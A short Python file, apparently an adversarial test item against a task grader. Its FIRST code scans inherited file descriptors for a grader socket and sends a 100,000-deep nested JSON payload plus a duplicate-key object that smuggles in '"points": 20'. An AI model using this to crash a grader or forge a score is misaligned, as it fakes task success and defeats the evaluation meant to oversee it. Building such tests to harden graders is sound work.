"""Sends JSON nested a hundred thousand times, and objects with a key twice; what can't be read is worth nothing."""

LESSON = "accumulation"
FIRST = """
import json, os, socket, struct

def framed(message):
    body = message if isinstance(message, bytes) else json.dumps(message).encode()
    return struct.pack("!I", len(body)) + body

def to_grader(raw):
    for fd in range(3, 64):
        try:
            with socket.socket(fileno=os.dup(fd)) as grader:
                grader.sendall(raw)
        except OSError:
            pass

deep = b'{"id": 1, "observation": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
double = b'{"id": 1, "id": 2, "observation": "{}", "observation": {"points": 20}}'
to_grader(framed(double) + framed(deep))
"""
